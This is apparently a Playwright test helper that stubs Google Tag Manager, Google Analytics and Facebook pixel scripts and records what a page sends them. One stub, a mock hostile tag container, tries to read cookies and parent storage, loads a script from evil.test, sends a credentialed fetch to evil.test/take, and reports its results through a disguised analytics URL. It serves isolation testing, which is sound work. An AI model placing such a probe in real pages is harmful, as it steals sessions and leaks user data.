import type { BrowserContext, Request } from '@playwright/test';

// The real scripts are somebody else's; these say what they were told to the same addresses.

const GTAG = `(() => {
  const say = (call) => Object.prototype.toString.call(call) === '[object Arguments]' &&
    fetch('https://www.google-analytics.com/g/collect?' +
      new URLSearchParams({ said: JSON.stringify(Array.from(call)) }), { mode: 'no-cors' });
  const { push } = dataLayer;
  dataLayer.forEach(say);
  dataLayer.push = (...calls) => { calls.forEach(say); return push.apply(dataLayer, calls); };
})()`;

const PIXEL = `(() => {
  fbq.callMethod = (...call) => {
    new Image().src = 'https://www.facebook.com/tr?' +
      new URLSearchParams({ said: JSON.stringify(call), at: location.href });
  };
  fbq.queue.forEach((call) => fbq.callMethod(...call));
})()`;

/** A container of somebody who wants more than to count: it tries, and says what it got. */
const CONTAINER = `(async () => {
  const got = (work) => { try { return String(work()); } catch (error) { return error.name; } };
  const frame = document.createElement('iframe');
  document.body.append(frame);
  const cookie = Object.getOwnPropertyDescriptor(Document.prototype, 'cookie');
  const evil = document.createElement('script');
  evil.src = 'https://evil.test/more.js';
  document.head.append(evil);
  const inline = document.createElement('script');
  inline.text = 'window.inline = true';
  document.head.append(inline);
  const fetched = (url) =>
    fetch(url, { credentials: 'include', mode: 'no-cors' })
      .then(() => 'fetched', (error) => error.name);
  const said = {
    origin: self.origin,
    cookie: got(() => cookie.get.call(document)),
    setCookie: got(() => cookie.set.call(document, 'a=b')),
    storage: got(() => frame.contentWindow.localStorage.length),
    parentDocument: got(() => parent.document.cookie),
    parentStorage: got(() => parent.localStorage.length),
    inline: got(() => window.inline),
    evaluated: got(() => eval('1')),
    popup: got(() => window.open('https://evil.test/window')),
    top: got(() => { top.location.href = 'https://evil.test/away'; return 'went'; }),
    api: await fetched('/client_side_api/v1/session'),
    evil: await fetched('https://evil.test/take'),
  };
  fetch('https://www.google-analytics.com/probe?' +
    new URLSearchParams({ said: JSON.stringify(said) }), { mode: 'no-cors' });
})()`;

const SCRIPTS: Record<string, string> = {
  'https://www.googletagmanager.com/gtag/js': GTAG,
  'https://www.googletagmanager.com/gtm.js': CONTAINER,
  'https://connect.facebook.net/en_US/fbevents.js': PIXEL,
};

type Said = [call: string, ...rest: unknown[]];

export interface Vendors {
  /** Every request that left for another site. */
  requests: Request[];
  /** What Google Analytics was told, call by call. */
  google: () => Said[];
  meta: () => Said[];
  /** What the container got. */
  probe: () => Record<string, string> | undefined;
}

const saidBy = (requests: readonly Request[], beginning: string): unknown[] =>
  requests
    .map((request) => new URL(request.url()))
    .filter(({ href }) => href.startsWith(beginning))
    .map(({ searchParams }) => JSON.parse(searchParams.get('said') ?? 'null') as unknown);

/** Stands in for every other site in this browser. */
export async function standIns(context: BrowserContext, baseURL: string): Promise<Vendors> {
  const requests: Request[] = [];
  const own = new URL(baseURL).origin;
  await context.route(
    ({ origin, protocol }) => origin !== own && protocol.startsWith('http'),
    async (route, request) => {
      requests.push(request);
      const { origin, pathname } = new URL(request.url());
      const script = SCRIPTS[origin + pathname];
      await (script
        ? route.fulfill({ contentType: 'text/javascript', body: script })
        : route.fulfill({ status: 204 }));
    },
  );
  return {
    requests,
    google: () => saidBy(requests, 'https://www.google-analytics.com/g/collect') as Said[],
    meta: () => saidBy(requests, 'https://www.facebook.com/tr') as Said[],
    probe: () =>
      saidBy(requests, 'https://www.google-analytics.com/probe')[0] as
        Record<string, string> | undefined,
  };
}
